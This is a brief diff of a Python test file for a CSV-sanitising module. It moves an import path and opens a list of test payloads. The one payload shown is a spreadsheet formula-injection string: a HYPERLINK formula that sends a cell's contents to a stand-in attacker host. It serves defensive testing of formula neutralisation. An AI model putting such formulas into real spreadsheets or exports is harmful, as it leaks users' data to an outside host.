@@ -7,7 +7,7 @@ import re
 import pandas as pd
 import pytest
 
-from kpi.csv_safety import neutralise_formulas, safe_csv_bytes
+from kpi.ingest.csv_safety import neutralise_formulas, safe_csv_bytes
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
